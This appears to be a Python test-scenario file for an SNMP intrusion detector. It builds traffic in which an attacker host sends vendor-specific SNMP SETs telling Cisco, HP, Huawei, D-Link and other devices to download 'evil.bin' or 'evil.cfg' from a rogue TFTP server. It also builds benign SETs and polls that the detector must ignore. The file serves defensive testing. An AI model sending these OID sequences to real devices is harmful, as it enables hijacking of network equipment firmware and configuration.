"""BW04: orders of the most widespread vendors, an object at a time; and SETs of the same objects that order nothing."""

from __future__ import annotations

from bootwarden.scenarios.model import Expect, scenario
from bootwarden.scenarios.sites import ATTACKER, HQ, ROGUE
from bootwarden.scenarios.snmp_atlas import read_table, spread
from bootwarden.traffic import snmp
from bootwarden.traffic.wire import Wire

# Where what starts a transfer comes in a SET of its own, the rule on a type that was set before sees it, too.
SPREAD = read_table("""
# Cisco CatOS, a wireless controller
1542006101 1.3.6.1.4.1.9.5.1.5 1.0=NAME 2.0=evil.bin 3.0=1 4.0=4 > evil.bin rogue
1542006127,1542006305 1.3.6.1.4.1.14179.1.2.9.2 1.0=1 2.0=ADDRESS 4.0=evil.bin 5.0=2 6.0=1 > evil.bin rogue
# Ubiquiti and Netgear with FASTPATH
1542006151,1542006309 1.3.6.1.4.1.4413.1.1.1.2.9.2 1.0=1 8.0=1 9.0=BYTES 4.0=evil.bin 5.0=2 6.0=1 > evil.bin rogue
1542006152,1542006310 1.3.6.1.4.1.4526.10.1.2.9.2 1.0=1 2.0=ADDRESS 4.0=evil.bin 5.0=2 6.0=1 > evil.bin rogue
# A cable modem, a probe
1542006201 1.3.6.1.2.1.69.1.3 1.0=ADDRESS 2.0=evil.bin 3.0=1 > evil.bin rogue
1542006209 1.3.6.1.2.1.16.19 6.0=evil.bin 7.0=ADDRESS 8.0=3 > evil.bin rogue
# D-Link, Moxa, Hirschmann
1542006228 1.3.6.1.4.1.171.10.75.5.3 1.0=ADDRESS 2.0=evil.bin 3.0=1 > evil.bin rogue
1542006300 1.3.6.1.4.1.8691.7.7.1.31 1.0=NAME 2.0=evil.bin 5.0=1 > evil.bin rogue
1542006301 1.3.6.1.4.1.248.14.2.4 1.0=URL 6.0=2 > evil.bin rogue
# Extreme, Foundry, IBM and HP
1542006488 1.3.6.1.4.1.1916.1.1.1.43.1 12.1=5 6.1=NAME 3.1=evil.bin 12.1=1 > evil.bin rogue
1542006494 1.3.6.1.4.1.1991.1.1.2.4.2.1 6.1=3 4.1=ADDRESS 5.1=evil.bin 3.1=7 > evil.bin rogue
1542006519 1.3.6.1.4.1.26543.2.7.6.1.1.7 1.0=NAME 3.0=evil.bin 6.0=2 > evil.bin rogue
1542006329 1.3.6.1.4.1.11.2.14.11.15.2.5.1.2.1.1 12.1=5 3.1=2 4.1=ADDRESS 7.1=evil.bin 2.1=1 12.1=1 > evil.bin rogue
# Huawei, Nortel, Ruckus, Ciena
1542006592 1.3.6.1.4.1.2011.5.25.183.1.30.1 11.1=3 6.1=ADDRESS 5.1=evil.bin 51.1=4 > evil.bin rogue
1542006642 1.3.6.1.4.1.45.1.6.4 4.5.0=ADDRESS 2.2.1.6.1=evil.bin 2.1.24.0=3 > evil.bin rogue
1542006675 1.3.6.1.4.1.25053.1.1.5.1.1.1 1.0=1 3.0=NAME 4.0=evil.bin 7.0=1 > evil.bin rogue
1542006470 1.3.6.1.4.1.6141.2.60.10.1.1.1 2.0=NAME 3.0=evil.bin 4.0=1 > evil.bin rogue
# Allied Telesis, Enterasys, RAD, APC, Brother
1542006371 1.3.6.1.4.1.207.8.4.4.4.600.3 13.1.0=ADDRESS 3.0=evil.bin 2.0=4 7.0=1 > evil.bin rogue
1542006424 1.3.6.1.4.1.52.4.12.30.1.24.1 6.0=ADDRESS 2.0=evil.bin 5.0=1 1.0=4 8.0=2 > evil.bin rogue
1542006671 1.3.6.1.4.1.164.6.2.12 1.0=ADDRESS 2.0=evil.bin 3.0=1 > evil.bin rogue
1542006376 1.3.6.1.4.1.318.2.2 1.0=3 > - -
1542006445 1.3.6.1.4.1.2435.2.4.3.1240.6 1.0=ADDRESS 3.0=evil.bin 4.0=90 > evil.bin rogue
""")

spread("BW04", SPREAD, "Devices of twenty vendors are told to take an image, an object at a time.")

HARMLESS: list[snmp.Binding] = [
    ("1.3.6.1.4.1.171.10.75.5.4.3.0", 1),  # D-Link miscStatisticsReset
    ("1.3.6.1.4.1.14179.1.3.6.0", 1),  # agentClearPortStats
    ("1.3.6.1.4.1.4413.1.1.1.3.6.0", 1),
    ("1.3.6.1.4.1.248.14.1.1.9.1.7.1", 3),  # hmSysGroupAction: resetStats
    ("1.3.6.1.4.1.318.1.1.26.4.1.1.11.1", 2),  # rPDU2DeviceConfigDeviceEnergyReset
    ("1.3.6.1.2.1.16.19.8.0", 1),  # probeDownloadAction: notDownloading
    ("1.3.6.1.4.1.9.5.1.5.4.0", 1),  # tftpAction: other
    ("1.3.6.1.4.1.6141.2.60.11.1.1.1.14.0", 2),  # wwpLeosChassisRebootNow: false
    ("1.3.6.1.2.1.69.1.3.3.0", 3),  # docsDevSwAdminStatus: ignoreProvisioningUpgrade
    ("1.3.6.1.4.1.26543.2.7.6.1.1.1.4.0", 2),  # agSaveConfiguration
    ("1.3.6.1.4.1.45.1.6.4.2.1.2.0", 3),  # s5AgInfoWriteCfg
    ("1.3.6.1.4.1.11863.6.3.1.3.0", 1),  # tpSysToolConfigSave
    ("1.3.6.1.2.1.33.1.8.4.0", 60),  # upsRebootWithDuration: of the load
    ("1.3.6.1.4.1.1718.3.2.3.1.11.1.1.1", 3),  # outletControlAction: of the load
    ("1.3.6.1.4.1.25506.2.43.1.1.3.0", 1),  # hh3cDLDPSystemReset
]


POLLED: dict[str, dict[str, int | str]] = {
    "1.3.6.1.4.1.30065.3.7.1.1": {"3.1": f"tftp://{ROGUE}/evil.cfg", "4.1": "startup-config", "11.1": 1},  # Arista
    "1.3.6.1.4.1.9.2.1": {f"50.{ROGUE}": "evil.cfg", f"53.{ROGUE}": "evil.cfg", f"54.{ROGUE}": "x", f"55.{ROGUE}": "x"},
    "1.3.6.1.4.1.9.9.10.1.2.1.1": {"2.1": 1, "3.1": 1, "5.1": "evil.bin", "6.1": "evil.bin", "11.1": 1},  # Cisco
    "1.3.6.1.4.1.9.9.10.1.2.3.1": {"2.1": 3, "3.1": "flash:", "7.1": 1},
    "1.3.6.1.4.1.9.2.10": {f"6.{ROGUE}": "evil.bin", f"9.{ROGUE}": "x", f"12.{ROGUE}": "evil.bin"},
    "1.3.6.1.4.1.9.9.360.1.1": {"3.1.1.1": 1, "6.1.1.1": f"tftp://{ROGUE}/evil.bin", "4.1.0": 1},
    "1.3.6.1.4.1.9.9.725.1": {"1.2.0": 1, "2.1.0": f"tftp://{ROGUE}/evil.tar", "2.5.1.3.1": f"tftp://{ROGUE}/x"},
    "1.3.6.1.4.1.25506.2.4.1.2.4.1": {"2.1": 3, "3.1": 2, "4.1": "evil.cfg", "9.1": 4},  # H3C, and its older arcs
    "1.3.6.1.4.1.2011.10.2.4.1.2.4.1": {"2.1": 3, "3.1": 2, "4.1": "evil.cfg", "9.1": 4},
    "1.3.6.1.4.1.25506.2.5.1.2.1.1": {"2.1": 1, "3.1": 1, "7.1": "evil.bin", "12.1": 4},
    "1.3.6.1.4.1.2011.10.2.5.1.2.1.1": {"2.1": 1, "3.1": 1, "7.1": "evil.bin", "12.1": 4},
    "1.3.6.1.4.1.1916.1.10.1.2.1": {"2.1": 1, "3.1": "evil.xos", "4.1": 1, "6.1": 4},  # Extreme
    "1.3.6.1.4.1.11.2.14.11.1.3.11.1": {"2.1": 1, "3.1": "evil.swi", "4.1": 1, "5.1": 1},  # HP
    "1.3.6.1.4.1.11.2.14.11.1.3": {"5.0": "evil.swi", "6.0": 1, "7.0": 1, "8.0": 1, "12.0": 1},
    "1.3.6.1.4.1.2011.6.10.1.2.4.1": {"2.1": 4, "3.1": 2, "4.1": "evil.cfg", "9.1": 4},  # Huawei
    "1.3.6.1.4.1.2011.5.25.19.1.3": {"2.0": 1, "4.0": 1, "3.1.3.1": 1, "3.1.4.1": "evil.cc"},
}
"""Rows of the most widespread vendors, as they stand after an order: who polls them orders nothing."""


@scenario("BW04", "benign", site=HQ, with_site=Expect())
def bw04_atlas_harmless(wire: Wire) -> None:
    """Statistics are reset, configurations saved, outlets switched, downloads declined; finished orders are polled."""
    for number, binding in enumerate(HARMLESS, 1):
        snmp.Manager(wire, ATTACKER, f"10.0.45.{number}", community="hq-rw").set(binding)
    for number, (table, row) in enumerate(POLLED.items(), len(HARMLESS) + 1):
        bindings: list[snmp.Binding] = [(f"{table}.{column}", value) for column, value in row.items()]
        manager = snmp.Manager(wire, ATTACKER, f"10.0.45.{number}", community="hq-ro")
        manager.get(*bindings)
        manager.get_next(table, *bindings)
        manager.get_bulk(table, *bindings)
